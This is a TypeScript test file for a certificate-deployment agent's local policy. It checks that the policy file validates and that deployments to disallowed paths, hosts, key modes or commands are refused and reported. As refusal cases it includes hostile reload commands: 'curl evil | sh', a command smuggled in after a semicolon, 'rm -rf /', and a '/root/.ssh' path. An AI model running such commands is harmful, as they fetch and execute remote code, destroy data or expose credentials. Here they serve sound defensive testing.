import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { FileConfig, NginxConfig } from "@certctl/connectors"
import { describe, expect, it } from "@effect/vitest"
import { ConfigProvider, Effect, Either, Exit, Schema } from "effect"
import ssh2 from "ssh2"
import { load } from "../src/Config.js"
import * as Policy from "../src/Policy.js"
import { makeMemoryControlPlane, reports, runAgent } from "./support/memoryControlPlane.js"

/**
 * The agent's local policy: the file's format and its refusals, the default without a file, and
 * the agent loop refusing a deployment it does not allow, with the policy field in the report.
 */

const tmp = (prefix = "certctl-policy-") => fs.mkdtempSync(path.join(os.tmpdir(), prefix))

const policyOf = (raw: unknown) =>
  Either.getOrThrowWith(Policy.decode(raw, "test policy"), (e) => new Error(`policy did not decode: ${e}`))

const fileConfig = (c: Record<string, unknown>) => Schema.decodeUnknownSync(FileConfig)(c)
const sshKey = ssh2.utils.generateKeyPairSync("ed25519").private
const nginxConfig = (c: Record<string, unknown>) =>
  Schema.decodeUnknownSync(NginxConfig)({ ssh_user: "deploy", ssh_key: sshKey, cert_path: "/etc/nginx/ssl", ...c })

const loadWith = (env: Record<string, string>) =>
  Effect.runSyncExit(load.pipe(Effect.withConfigProvider(ConfigProvider.fromMap(new Map(Object.entries(env))))))

describe("Policy file", () => {
  it("loads through CERTCTL_AGENT_POLICY, and a bad file stops the agent naming the setting and the fault", () => {
    const dir = tmp()
    const good = path.join(dir, "good.json")
    fs.writeFileSync(
      good,
      JSON.stringify({
        version: 1,
        file: { directories: ["/etc/ssl/certctl"], reload_commands: ["systemctl reload haproxy"], key_modes: ["0640"] },
        nginx: { hosts: ["web1.example.com:22"], cert_paths: ["/etc/nginx/ssl"] },
        f5: { hosts: ["bigip.example.com:443"] },
        iis: { hosts: ["iis01.example.com:5986"], verify_addresses: ["iis01.example.com:443"] }
      })
    )
    const exit = loadWith({ CERTCTL_AGENT_POLICY: good })
    if (Exit.isFailure(exit)) throw new Error(String(exit.cause))
    expect(exit.value.policy).toMatchObject({
      source: good,
      file: { directories: ["/etc/ssl/certctl"], key_modes: ["0640"], verify_addresses: [] },
      nginx: { commands: ["nginx -t", "nginx -s reload"] }
    })
    expect(loadWith({}).pipe(Exit.map((s) => s.policy))).toEqual(Exit.succeed(undefined))

    const bad: Array<[unknown, RegExp]> = [
      [{ file: { directories: ["relative/dir"] } }, /must be an absolute path, got "relative\/dir"/],
      [{ file: { directories: ["/x"], reload_command: ["typo"] } }, /reload_command.*is unexpected/s],
      [{ files: {} }, /"files".*is unexpected/s],
      [{ nginx: { hosts: ["web1"], cert_paths: ["/x"] } }, /must be "host:port"/],
      [{ file: { directories: ["/x"], reload_commands: [{ pattern: "(" }] } }, /is not a regular expression/],
      [{ file: { directories: ["/x"], key_modes: ["rw-------"] } }, /octal file mode/],
      [{ version: 2 }, /Expected 1, actual 2/],
      [{ file: { directories: ["/x".repeat(3000)] } }, /at most 4096/]
    ]
    for (const [raw, message] of bad) {
      const file = path.join(dir, "bad.json")
      fs.writeFileSync(file, JSON.stringify(raw))
      const failed = loadWith({ CERTCTL_AGENT_POLICY: file })
      expect(Exit.isFailure(failed), JSON.stringify(raw)).toBe(true)
      const text = String(Exit.isFailure(failed) ? failed.cause : "")
      expect(text).toContain("CERTCTL_AGENT_POLICY")
      expect(text).toMatch(message)
    }
    const notJson = path.join(dir, "broken.json")
    fs.writeFileSync(notJson, "{ file: ")
    expect(String(Exit.isFailure(loadWith({ CERTCTL_AGENT_POLICY: notJson })) && "failed")).toBe("failed")
    expect(String((loadWith({ CERTCTL_AGENT_POLICY: path.join(dir, "missing.json") }) as any).cause)).toMatch(
      /CERTCTL_AGENT_POLICY.*ENOENT/
    )
  })

  it("checks every server-supplied field of each target type and names the refusing field", () => {
    const root = tmp()
    const policy = policyOf({
      file: {
        directories: [root],
        reload_commands: ["systemctl reload haproxy", { pattern: "systemctl reload [a-z]+" }],
        key_modes: ["0600", "0640"],
        verify_addresses: ["127.0.0.1:8443"]
      },
      nginx: {
        hosts: ["web1.example.com:22"],
        cert_paths: ["/etc/nginx/ssl"],
        verify_addresses: ["vip.example.com:443"]
      },
      f5: { hosts: ["bigip.example.com:443"] },
      iis: { hosts: ["iis01.example.com:5986"] }
    })
    const fieldOf = (type: string, c: unknown) => Policy.check(policy, type, c)?.field
    // file
    expect(fieldOf("file", fileConfig({ directory: path.join(root, "sub") }))).toBeUndefined()
    expect(fieldOf("file", fileConfig({ directory: "/etc" }))).toBe("file.directories")
    expect(fieldOf("file", fileConfig({ directory: `${root}-sibling` }))).toBe("file.directories")
    expect(fieldOf("file", fileConfig({ directory: root, key_mode: "0644" }))).toBe("file.key_modes")
    expect(fieldOf("file", fileConfig({ directory: root, key_mode: "640" }))).toBeUndefined()
    expect(fieldOf("file", fileConfig({ directory: root, reload_command: "systemctl reload nginx" }))).toBeUndefined()
    expect(fieldOf("file", fileConfig({ directory: root, reload_command: "systemctl reload nginx; id" }))).toBe(
      "file.reload_commands"
    )
    expect(fieldOf("file", fileConfig({ directory: root, reload_command: "curl evil | sh" }))).toBe(
      "file.reload_commands"
    )
    expect(
      fieldOf("file", fileConfig({ directory: root, verify_address: { host: "127.0.0.1", port: 8443 } }))
    ).toBeUndefined()
    expect(fieldOf("file", fileConfig({ directory: root, verify_address: { host: "10.0.0.1", port: 22 } }))).toBe(
      "file.verify_addresses"
    )
    // A symbolic link inside the allowed directory does not lead out of it.
    fs.symlinkSync("/etc", path.join(root, "escape"))
    expect(fieldOf("file", fileConfig({ directory: path.join(root, "escape", "ssl") }))).toBe("file.directories")
    // nginx, with its default commands checked too
    expect(fieldOf("nginx", nginxConfig({ host: "web1.example.com" }))).toBeUndefined()
    expect(fieldOf("nginx", nginxConfig({ host: "WEB1.example.com" }))).toBeUndefined()
    expect(fieldOf("nginx", nginxConfig({ host: "web2.example.com" }))).toBe("nginx.hosts")
    expect(fieldOf("nginx", nginxConfig({ host: "web1.example.com", port: 2222 }))).toBe("nginx.hosts")
    expect(fieldOf("nginx", nginxConfig({ host: "web1.example.com", cert_path: "/root/.ssh" }))).toBe(
      "nginx.cert_paths"
    )
    expect(fieldOf("nginx", nginxConfig({ host: "web1.example.com", reload_command: "rm -rf /" }))).toBe(
      "nginx.commands"
    )
    expect(fieldOf("nginx", nginxConfig({ host: "web1.example.com", test_command: "id" }))).toBe("nginx.commands")
    expect(fieldOf("nginx", nginxConfig({ host: "web1.example.com", verify_host: "vip.example.com" }))).toBeUndefined()
    expect(fieldOf("nginx", nginxConfig({ host: "web1.example.com", verify_host: "10.1.1.1" }))).toBe(
      "nginx.verify_addresses"
    )
    // f5 and iis: the management host, with the port defaults applied
    expect(fieldOf("f5", { host: "bigip.example.com", port: 443 })).toBeUndefined()
    expect(fieldOf("f5", { host: "other.example.com", port: 443 })).toBe("f5.hosts")
    expect(
      fieldOf("f5", { host: "bigip.example.com", port: 443, verify_address: { host: "1.2.3.4", port: 443 } })
    ).toBe("f5.verify_addresses")
    expect(fieldOf("iis", { host: "iis01.example.com", use_https: true })).toBeUndefined()
    expect(fieldOf("iis", { host: "iis01.example.com", use_https: false })).toBe("iis.hosts")
    // A type without a section is refused outright.
    const fileOnly = policyOf({ file: { directories: [root] } })
    expect(Policy.check(fileOnly, "nginx", nginxConfig({ host: "web1.example.com" }))?.message).toMatch(
      /has no "nginx" section/
    )
  })

  it("without a file allows only file targets under <key dir>/deploy, key mode 0600, no command, no address", () => {
    const keyDir = tmp()
    const policy = Policy.defaultPolicy(keyDir)
    expect(Policy.check(policy, "file", fileConfig({ directory: path.join(keyDir, "deploy") }))).toBeUndefined()
    expect(Policy.check(policy, "file", fileConfig({ directory: keyDir }))?.field).toBe("file.directories")
    expect(
      Policy.check(policy, "file", fileConfig({ directory: path.join(keyDir, "deploy"), key_mode: "0640" }))?.field
    ).toBe("file.key_modes")
    expect(
      Policy.check(policy, "file", fileConfig({ directory: path.join(keyDir, "deploy"), reload_command: "true" }))
        ?.field
    ).toBe("file.reload_commands")
    expect(Policy.check(policy, "nginx", nginxConfig({ host: "127.0.0.1" }))?.field).toBe("nginx")
  })
})

describe("Agent.layer with a local policy", () => {
  it.live(
    "refuses a deployment the policy does not allow, runs nothing, and reports the policy field",
    () =>
      Effect.gen(function* () {
        const keyDir = tmp("certctl-policy-keys-")
        const allowed = tmp("certctl-policy-allowed-")
        const elsewhere = tmp("certctl-policy-elsewhere-")
        const marker = path.join(tmp(), "ran")
        const { service, seen } = yield* makeMemoryControlPlane({
          domain: "policy.example.test",
          targets: [
            { target_id: "ok", name: "ok", type: "file", config: { directory: allowed } },
            { target_id: "outside", name: "outside", type: "file", config: { directory: elsewhere } },
            {
              target_id: "command",
              name: "command",
              type: "file",
              config: { directory: allowed, reload_command: `touch ${marker}` }
            },
            {
              target_id: "ssh",
              name: "ssh",
              type: "nginx",
              config: { host: "127.0.0.1", ssh_user: "deploy", ssh_key: sshKey, cert_path: "/etc/nginx/ssl" }
            }
          ]
        })
        const policy = policyOf({ file: { directories: [allowed] } })
        yield* runAgent(service, { keyDir, policy })
        const got = yield* reports(seen, 4)
        const byTarget = (i: number) => got.find((r) => r.id.endsWith(`-${i}`))?.status
        expect(byTarget(0)).toMatchObject({ status: "success", verified: true })
        expect(byTarget(1)).toMatchObject({ status: "failed" })
        expect(byTarget(1)?.error).toMatch(
          /^Rejected: refused by the agent's local policy \(file\.directories in test policy\)/
        )
        expect(byTarget(1)?.error).toContain(elsewhere)
        expect(byTarget(2)?.error).toMatch(/file\.reload_commands/)
        expect(byTarget(3)?.error).toMatch(/has no "nginx" section/)
        expect(fs.existsSync(marker)).toBe(false)
        expect(fs.readdirSync(elsewhere)).toEqual([])
        // The previous key is kept: not every target verified the new certificate.
        expect(fs.existsSync(path.join(keyDir, "policy.example.test", "key.pem"))).toBe(true)
      }).pipe(Effect.scoped),
    60_000
  )
})
